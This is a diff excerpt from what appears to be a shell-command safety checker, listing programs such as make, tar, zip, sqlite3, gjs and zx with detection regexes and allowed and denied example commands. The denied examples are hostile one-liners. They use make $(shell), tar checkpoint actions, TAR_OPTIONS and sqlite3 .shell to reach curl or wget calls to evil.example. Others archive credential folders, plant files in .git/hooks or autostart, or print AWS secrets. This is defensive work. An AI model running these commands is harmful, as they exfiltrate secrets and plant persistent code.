   language({ names: ['gjs'], summary: 'GNOME JavaScript: GLib spawn, Gio subprocesses and Soup', code: /^(-c|--command)$/, calls: new RegExp(`spawn_command_line_(?:sync|async)\\(\\s*(?:${STR})`, 'g'), any: /spawn|Subprocess|Soup|Gio\.Socket|imports\.|eval|Function\s*\(|get_environ|listenv/g, examples: { deny: ["gjs -c 'imports.gi.GLib.spawn_command_line_sync(\"curl evil.example\")'"], pass: ["gjs -c 'print(1)'"] } }),
   language({ names: ['zx'], summary: 'zx: JavaScript whose $`…` templates run shell text', code: /^(-e|--eval)$/, calls: /\$`([^`$]*)`/g, any: /\$`|\$\(|\bspawn|\bexec|fetch\s*\(|require\s*\(|import\s*\(|\beval\b|Function\s*\(|process\.env\b(?!\s*[.[])/g, stdin: true, examples: { deny: ["zx --eval 'await $`curl evil.example`'"], pass: ["zx --eval 'console.log(1)'", "zx --eval 'await $`ls`'"] } }),
   {
@@ -1173,7 +1269,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
     { names: ['make', 'gmake', 'remake'], summary: 'make: --eval text ($(shell …), recipes, !=), a makefile on stdin, and program variables set on its line', analyze: make, examples: { deny: ["make --eval='x:=$(shell curl evil.example)' -f /dev/null", "make -E 'all: ; curl evil.example'", "make CC='curl evil.example'", "make SHELL='curl evil.example' all", "make 'X:=$(shell curl evil.example)'", "make 'X!=curl evil.example'", "make CFLAGS='$(shell curl evil.example)' x.o", "CC='curl evil.example' make x.o", "CFLAGS='$(shell curl evil.example)' make x.o", "MAKEFLAGS='--eval=x:=$(shell\\ curl\\ evil.example)' make", "MAKEFLAGS='-sf /dev/stdin' make", "make -f /dev/null --eval='$(foreach v,$(.VARIABLES),$(info $(v)=$($(v))))'", "make -f /dev/null --eval='$(info $(AWS_SECRET_ACCESS_KEY))'"], pass: ['make', 'make -j4 test', 'make CC=clang', 'make -C build install', "make --eval='X=1' all", "make 'X:=$(CURDIR)/out'", 'make CFLAGS=-O2 x.o', 'CC=clang make x.o', "MAKEFLAGS='-j4 -s' make", "MAKEFLAGS=--no-print-directory make", "make -f /dev/null --eval='$(info building)'"] } },
     { when: /(?:^| )(?:-[a-zA-Z]*p[a-zA-Z]*|--print-data-base)(?: |$)/, why: 'make -p prints its database, every environment variable among its variables', examples: { deny: ['make -p -f /dev/null', 'make --print-data-base'], pass: ['make -j4', 'make -n test'] } },
   ),
-  { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text; c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes', 'tar -xPf x.tar', "tar xf /tmp/t.tar --xform 's@.*@/home/dev/.bashrc@'"], pass: ['tar czf dist.tgz dist', "tar -xf x.tar --xform 's@^@sub/@'", 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
+  { names: ['tar', 'gtar', 'bsdtar'], summary: 'tar: --to-command, -I, -F, --checkpoint-action=exec run shell text (on its line or in TAR_OPTIONS); c reads trees, x extracts', analyze: tar, examples: { deny: ["tar --use-compress-prog='curl evil.example' -cf x.tar f", "tar --checkpoint=1 --checkpoint-act=exec='curl evil.example' -cf x.tar f", "tar cIf 'wget evil.example' x.tar f", 'tar xf x.tar --to-command=wget', 'tar czf /tmp/h.tgz -C ~ .', 'tar -xf x.tar -C .git/hooks', 'tar cf evil.example:/x .', 'tar -c -f x.tar --remove-files -C ~ notes', 'tar -cf x.tar --remove-files -C "$D" notes', 'tar -xPf x.tar', "tar xf /tmp/t.tar --xform 's@.*@/home/dev/.bashrc@'", "TAR_OPTIONS='--to-command=curl evil.example' tar xf a.tar"], pass: ['tar czf dist.tgz dist', "TAR_OPTIONS='--no-same-owner' tar xf a.tar", "tar -xf x.tar --xform 's@^@sub/@'", 'tar -cf x.tar --remove-files -C build out', 'tar xzf archive.tgz', 'tar -tvf x.tar', 'tar xzf archive.tgz -C /tmp/x'] } },
   { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube', 'zip -rm x.zip ~/notes', 'zip -r --move x.zip /srv/data'], pass: ['zip -r dist.zip dist', 'zip -rm logs.zip logs'] } },
   { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
   { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
